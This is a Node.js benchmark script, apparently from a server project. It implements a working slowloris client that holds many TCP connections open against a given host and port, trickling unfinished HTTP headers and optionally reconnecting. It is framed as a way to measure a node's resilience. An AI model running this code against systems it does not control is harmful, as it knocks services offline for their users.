'use strict';
// A slowloris client, for measuring what it costs a node (bench/slowloris.sh drives it).
// Opens <connections> raw TCP connections to host:port: half start a request and then send one header
// line every <lineEveryMs> without ever finishing it, half send nothing at all. With --reconnect, a
// connection the server closes is opened again at once (the attacker keeps up its count); without it,
// closed connections stay closed (what the server does by itself is measured).
// Every second it prints one JSON line: {t, open, opened, closedByServer}.
//
// Usage: node bench/slowloris.js <host> <port> <connections> <lineEveryMs> <seconds> [--reconnect]
const net = require('net');

const [host, portText, countText, everyText, secondsText] = process.argv.slice(2);
const reconnect = process.argv.includes('--reconnect');
const port = Number(portText);
const count = Number(countText);
const lineEveryMs = Number(everyText);
const seconds = Number(secondsText);

let open = 0;
let opened = 0;
let closedByServer = 0;
let stopping = false;
const sockets = new Set();

function connect(index) {
  const trickle = index % 2 === 0;
  const socket = net.connect({ host, port });
  let timer = null;
  let line = 0;
  let connected = false;
  sockets.add(socket);
  socket.on('connect', () => {
    connected = true;
    open++;
    opened++;
    if (trickle) {
      socket.write('GET / HTTP/1.1\r\nHost: ' + host + '\r\n');
      timer = setInterval(() => socket.write('X-Slow-' + line++ + ': 1\r\n'), lineEveryMs);
    }
  });
  socket.on('data', () => { });
  socket.on('error', () => { });
  socket.on('close', () => {
    if (timer) {
      clearInterval(timer);
    }
    sockets.delete(socket);
    if (connected) {
      open--;
    }
    if (!stopping) {
      closedByServer++;
      if (reconnect) {
        setTimeout(() => connect(index), 10);
      }
    }
  });
}

// Opened in batches, as a script in a loop would, without overrunning the accept queue.
let next = 0;
const opener = setInterval(() => {
  for (let i = 0; i < 50 && next < count; i++) {
    connect(next++);
  }
  if (next >= count) {
    clearInterval(opener);
  }
}, 20);

const started = Date.now();
const ticker = setInterval(() => {
  console.log(JSON.stringify({ t: Math.round((Date.now() - started) / 1000), open, opened, closedByServer }));
}, 1000);

setTimeout(() => {
  stopping = true;
  clearInterval(ticker);
  clearInterval(opener);
  sockets.forEach((s) => s.destroy());
  console.log(JSON.stringify({ t: Math.round((Date.now() - started) / 1000), done: true, open: 0, opened, closedByServer }));
  setTimeout(() => process.exit(0), 200);
}, seconds * 1000);
